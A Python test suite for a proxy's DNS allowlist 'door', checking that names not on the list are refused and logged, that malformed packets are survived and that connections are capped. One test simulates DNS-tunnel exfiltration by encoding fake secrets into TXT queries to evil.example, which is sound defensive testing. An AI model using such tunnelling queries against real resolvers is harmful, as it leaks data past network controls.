"""Names at a door, over real sockets: what is asked that does not exist stands in the job, and nothing goes out."""

from __future__ import annotations

import asyncio
import contextlib
import socket
import time
from pathlib import Path

import pytest
from clawproxy.addons import doors
from clawproxy.receipts.report import Verdict
from clawproxy.receipts.side_traffic import refused_hosts
from clawproxy.receipts.verify import verify_path
from mitmproxy.dns import DNSMessage

from ..clawproxy.standin_process import Provider
from ..waiting import until
from .bed import running_bed
from .door_rig import TYPES, DoorRig, open_door, query


async def _over_tcp(rig: DoorRig, *wires: bytes) -> list[bytes]:
    reader, writer = await asyncio.open_connection(*rig.sockets.dns_tcp[0].getsockname())
    answers = []
    for wire in wires:
        writer.write(len(wire).to_bytes(2) + wire)
        answers.append(await asyncio.wait_for(reader.readexactly(int.from_bytes(await reader.readexactly(2))), 30))
    writer.close()
    return answers


async def test_an_allowed_name_is_answered_over_udp_and_tcp(tmp_path: Path, provider: Provider) -> None:
    async with running_bed(tmp_path / "s", provider) as bed, open_door(bed) as rig:
        expected = rig.door.names.addresses("api.anthropic.com")
        assert expected
        by_udp = await rig.ask("api.anthropic.com")
        assert by_udp.answers[0].data == expected[0].packed
        by_tcp = await _over_tcp(rig, query("api.anthropic.com", "AAAA").packed, query("API.openai.com").packed)
        assert DNSMessage.unpack(by_tcp[0]).answers[0].data == expected[1].packed
        assert len(DNSMessage.unpack(by_tcp[1]).answers) == 1
        await asyncio.sleep(0.05)
        assert bed.records("denial", "caged") == []


async def test_any_other_name_is_refused_with_one_denial_in_the_job_whatever_the_types(
    tmp_path: Path, provider: Provider, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(doors, "_TOLD_AGAIN_MS", 600_000)  # on a busy machine, too, the lookups are of one moment
    async with running_bed(tmp_path / "s", provider) as bed:
        async with open_door(bed) as rig:
            for kind in TYPES:
                assert (await rig.ask("statsig.example", kind)).response_code == 3
            assert (await rig.ask("code.example")).response_code == 3
            found = await rig.denials(2)
            assert [(d["reason"], d["destination"], d["method"]) for d in found] == [
                ("NAME_NOT_ALLOWED", "statsig.example", "DNS"),
                ("NAME_NOT_ALLOWED", "code.example", "DNS"),
            ]
            assert [host.host for host in refused_hosts(found)] == ["statsig.example", "code.example"]
        await bed.gateway.seal("caged")
        assert verify_path(bed.state / "jobs" / "caged", bed.trust()).verdict is Verdict.VERIFIED


async def test_a_tunnel_through_names_gets_nothing_out_and_fills_nothing(
    tmp_path: Path, provider: Provider, monkeypatch: pytest.MonkeyPatch
) -> None:
    looked_up: list[object] = []
    stock = socket.getaddrinfo

    def getaddrinfo(*args: object, **more: object) -> object:
        looked_up.append(args[0])
        return stock(*args, **more)  # type: ignore[arg-type]

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    async with running_bed(tmp_path / "s", provider) as bed, open_door(bed) as rig:
        began = time.monotonic()
        for n in range(300):
            secret = f"s3cr3t-{n:04d}-aGVsbG8gd29ybGQhIQ"
            assert (await rig.ask(f"{secret}.t.evil.example", "TXT")).response_code == 3
        seconds = int(time.monotonic() - began) + 2  # so many can have begun meanwhile
        await until(lambda: bed.records("denial", "caged"))
        await asyncio.sleep(0.2)
        journal = (bed.state / "jobs" / "caged" / "receipts.jsonl").read_text()
        assert not [name for name in looked_up if "evil" in str(name)]
        assert "s3cr3t" not in journal
        found = bed.records("denial", "caged")
        assert {d["destination"] for d in found} == {"*.evil.example"}
        assert len(found) <= seconds * doors.DENIALS_PER_SECOND


async def test_nonsense_on_either_socket_leaves_the_resolver_as_it_was(tmp_path: Path, provider: Provider) -> None:
    async with running_bed(tmp_path / "s", provider) as bed, open_door(bed) as rig:
        loop = asyncio.get_running_loop()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.setblocking(False)
            await loop.sock_connect(sock, rig.sockets.dns_udp[0].getsockname())
            for raw in (b"", b"x", b"\xff" * 600, b"\0" * 12, bytes(range(256)) * 8):
                await loop.sock_sendall(sock, raw)
        for raw in (b"\xff\xff", b"\0\0", b"\0\x05hello", b"GET / HTTP/1.1\r\n\r\n"):
            reader, writer = await asyncio.open_connection(*rig.sockets.dns_tcp[0].getsockname())
            writer.write(raw)
            writer.write_eof()
            await asyncio.wait_for(reader.read(), 30)
            writer.close()
        assert (await rig.ask("api.openai.com")).response_code == 0


async def test_connections_to_the_resolver_are_few(tmp_path: Path, provider: Provider) -> None:
    async with running_bed(tmp_path / "s", provider) as bed, open_door(bed) as rig:
        address = rig.sockets.dns_tcp[0].getsockname()
        held = [await asyncio.open_connection(*address) for _ in range(16)]
        await asyncio.sleep(0.05)
        reader, writer = await asyncio.open_connection(*address)
        with pytest.raises((asyncio.IncompleteReadError, ConnectionError)):
            await asyncio.wait_for(reader.readexactly(1), 30)
        writer.close()
        held[0][1].close()
        answered: list[bytes] = []
        async with asyncio.timeout(30):
            while not answered:  # until it has seen that one has gone
                with contextlib.suppress(asyncio.IncompleteReadError, ConnectionError):
                    answered = await _over_tcp(rig, query("api.openai.com").packed)
        assert len(answered) == 1
        for _, other in held[1:]:
            other.close()


async def test_where_the_job_observes_any_public_name_is_there(tmp_path: Path, provider: Provider) -> None:
    async with running_bed(tmp_path / "s", provider) as bed, open_door(bed, observe=True) as rig:
        assert (await rig.ask("telemetry.example")).response_code == 0
        assert (await rig.ask("metadata.internal")).response_code == 3
